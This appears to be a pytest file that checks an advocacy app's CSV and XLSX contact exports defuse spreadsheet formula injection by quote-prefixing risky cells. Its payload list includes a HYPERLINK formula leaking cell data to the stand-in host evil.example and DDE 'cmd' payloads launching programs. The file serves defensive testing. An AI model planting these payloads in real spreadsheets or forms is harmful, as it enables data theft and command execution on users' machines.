"""Spreadsheet formula injection: any cell a constituent controls that could start a formula is defused."""

from __future__ import annotations

import pytest

from advocacy.reports.exports import CONTACT_HEADERS, neutralize
from tests.factories import csv_rows, make_action, make_campaign, make_letter, xlsx_rows

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
HARMLESS = ["O'Brien", "Ana-Maria", "José 2+2", "a=b", "", "New York"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_neutralize_prefixes_a_quote(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_neutralize_leaves_ordinary_text_alone(value):
    assert neutralize(value) == value


def _injected(payload: str):
    campaign = make_campaign()
    action = make_action(
        campaign,
        first_name=payload,
        last_name=payload,
        address=payload,
        city=payload,
        zip=payload[:10],
        email="victim@example.org",
    )
    make_letter(action, office_name=payload)
    return campaign


COLUMNS = ["First name", "Last name", "Address", "City", "Office"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_defused(staff_client, db, payload):
    _injected(payload)
    response = staff_client.get("/staff/campaigns/guan-heng/exports/contacts.csv", buffered=True)
    header, row = csv_rows(response.data)
    cells = dict(zip(header, row, strict=True))
    for column in COLUMNS:
        assert cells[column] == "'" + payload, column
    assert cells["ZIP"] == "'" + payload[:10]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cells_are_text_and_defused(staff_client, db, payload):
    _injected(payload)
    response = staff_client.get("/staff/campaigns/guan-heng/exports/contacts.xlsx", buffered=True)
    header, row = xlsx_rows(response.data)  # fails on any formula cell
    cells = dict(zip(header, row, strict=True))
    for column in COLUMNS:
        assert cells[column] == "'" + payload, column


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_offices_export_defuses_office_names(staff_client, db, payload):
    _injected(payload)
    response = staff_client.get("/staff/campaigns/guan-heng/exports/offices.csv", buffered=True)
    header, row = csv_rows(response.data)
    assert dict(zip(header, row, strict=True))["Office"] == "'" + payload
    header, row = xlsx_rows(staff_client.get("/staff/campaigns/guan-heng/exports/offices.xlsx", buffered=True).data)
    assert dict(zip(header, row, strict=True))["Office"] == "'" + payload


def test_ordinary_names_are_unchanged(staff_client, db):
    campaign = make_campaign()
    make_letter(make_action(campaign, first_name="Seán", last_name="O'Brien", address="12-14 Main St"))
    header, row = csv_rows(staff_client.get("/staff/campaigns/guan-heng/exports/contacts.csv", buffered=True).data)
    assert header == CONTACT_HEADERS
    cells = dict(zip(header, row, strict=True))
    assert (cells["First name"], cells["Last name"], cells["Address"]) == ("Seán", "O'Brien", "12-14 Main St")
